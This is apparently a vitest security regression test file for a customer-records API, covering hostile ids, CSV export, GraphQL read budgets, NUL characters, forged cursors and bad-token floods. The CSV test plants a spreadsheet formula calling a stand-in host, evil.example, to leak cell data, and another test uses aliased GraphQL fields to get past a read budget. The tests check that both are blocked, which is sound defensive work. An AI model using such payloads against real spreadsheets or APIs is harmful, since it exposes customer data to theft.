import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_POLICY_FILE } from '../../src/paths.js';
import { graphql, startTestApp, type TestApp } from '../helpers/test-app.js';

// Regressions for attacks found in review: hostile ids against the audit chain, CSV
// formula injection, and one GraphQL query carrying many reads past a read budget.

let t: TestApp;
beforeAll(async () => {
  const file = join(mkdtempSync(join(tmpdir(), 'fieldguard-review-')), 'policy.yaml');
  writeFileSync(file, readFileSync(DEFAULT_POLICY_FILE, 'utf8').replace('customers: 200, window: 1h, onExceed: block', 'customers: 3, window: 1h, onExceed: block'));
  t = await startTestApp({ POLICY_FILE: file });
});
afterAll(() => t?.close());

const verify = async () =>
  (await t.http({ url: '/v1/audit/verify', headers: { authorization: `Bearer ${await t.token('eve', 'auditor')}` } })).json();

describe('hostile ids', () => {
  it('a lone surrogate or NUL in an id cannot break the chain or fail other requests', async () => {
    const token = await t.token('mallory', 'agent');
    const gql = await graphql(t.app, token, 'query($i: ID!) { customer(id: $i) { id } }', { i: '\ud800' });
    expect(gql.body.errors?.[0].extensions.code).toBe('NOT_FOUND');
    const nul = await t.http({ url: '/v1/customers/%00', headers: { authorization: `Bearer ${token}` } });
    expect(nul.statusCode).toBe(404);
    const long = await graphql(t.app, token, 'query($i: ID!) { customer(id: $i) { id } }', { i: 'x'.repeat(5000) });
    expect(long.body.errors?.[0].extensions.code).toBe('NOT_FOUND');
    const { rows } = await t.database.query(`select resource_ids from audit_events where actor_sub = 'mallory' order by seq`);
    expect(rows.map((r) => r.resource_ids[0])).toEqual([expect.stringMatching(/^invalid:[0-9a-f]{16}$/), expect.stringMatching(/^invalid:/), expect.stringMatching(/^invalid:/)]);
    expect(await verify()).toMatchObject({ ok: true });
  });
});

describe('CSV export', () => {
  it('keeps a formula typed into a field as text', async () => {
    const { rows } = await t.database.query(`select id from customers where full_name = 'Luca Bernardi'`);
    const patched = await t.http({
      method: 'PATCH',
      url: `/v1/customers/${rows[0].id}`,
      headers: { authorization: `Bearer ${await t.token('root', 'admin')}` },
      payload: { notes: '=WEBSERVICE("https://evil.example/?"&E2)' },
    });
    expect(patched.statusCode).toBe(200);
    const csv = await t.http({ url: '/v1/customers/export?format=csv', headers: { authorization: `Bearer ${await t.token('root', 'admin')}` } });
    expect(csv.body).toContain(`"'=WEBSERVICE(""https://evil.example/?""&E2)"`);
    expect(csv.body).not.toMatch(/(^|,)=WEBSERVICE/m);
    expect(createHash('sha256').update(csv.rawPayload).digest('hex')).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('read budget', () => {
  it('counts the aliased fields of one GraphQL query one by one', async () => {
    const { rows } = await t.database.query(`select id from customers where privacy_level = 'standard' order by id limit 6`);
    const fields = rows.map((r, i) => `c${i}: customer(id: "${r.id}") { id }`).join(' ');
    const { body } = await graphql(t.app, await t.token('scraper', 'agent'), `{ ${fields} }`);
    const served = Object.values(body.data ?? {}).filter((v) => v !== null);
    expect(served).toHaveLength(3);
    expect(body.errors?.map((e: { extensions: { code: string } }) => e.extensions.code)).toEqual(['BUDGET_EXCEEDED', 'BUDGET_EXCEEDED', 'BUDGET_EXCEEDED']);
  });
});

describe('NUL characters and forged cursors', () => {
  it('are a 400, never a database error, through REST and GraphQL', async () => {
    const admin = { authorization: `Bearer ${await t.token('root', 'admin')}` };
    const { rows } = await t.database.query(`select id from customers where full_name = 'Giulia Marchetti'`);
    const rest = await t.http({ method: 'PATCH', url: `/v1/customers/${rows[0].id}`, headers: admin, payload: { notes: 'a\u0000b' } });
    expect(rest.statusCode).toBe(400);
    const gql = await graphql(t.app, await t.token('root', 'admin'), 'mutation($id: ID!, $n: String) { updateCustomer(id: $id, input: { notes: $n }) { id } }', { id: rows[0].id, n: 'a\u0000b' });
    expect(gql.body.errors?.[0].extensions.code).toBe('VALIDATION_FAILED');
    const upload = await t.http({
      method: 'POST',
      url: `/v1/customers/${rows[0].id}/documents`,
      headers: { ...admin, 'content-type': 'application/pdf', 'x-document-title': 'a%00b', 'x-document-category': 'invoice' },
      payload: Buffer.from('%PDF-1.4 test'),
    });
    expect(upload.statusCode).toBe(400);
    const cursor = Buffer.from(JSON.stringify({ k: 'startsAt', v: 'x', id: '00000000-0000-4000-8000-000000000000' })).toString('base64url');
    const bookings = await t.http({ url: `/v1/bookings?cursor=${cursor}`, headers: admin });
    expect(bookings.statusCode).toBe(400);
    expect(bookings.json().code).toBe('INVALID_CURSOR');
  });
});

describe('a flood of bad tokens', () => {
  it('is audited up to a bound per address, then answered 429 without growing the trail', async () => {
    const before = (await t.database.query(`select count(*)::int as n from audit_events where action = 'authenticate'`)).rows[0].n;
    const statuses: number[] = [];
    for (let i = 0; i < 110; i++) {
      statuses.push((await t.http({ url: '/v1/customers', headers: { authorization: `Bearer not-a-token-${i}` } })).statusCode);
    }
    const after = (await t.database.query(`select count(*)::int as n from audit_events where action = 'authenticate'`)).rows[0].n;
    expect(after - before).toBe(100);
    expect(statuses.slice(0, 100).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(100).every((s) => s === 429)).toBe(true);
  });
});
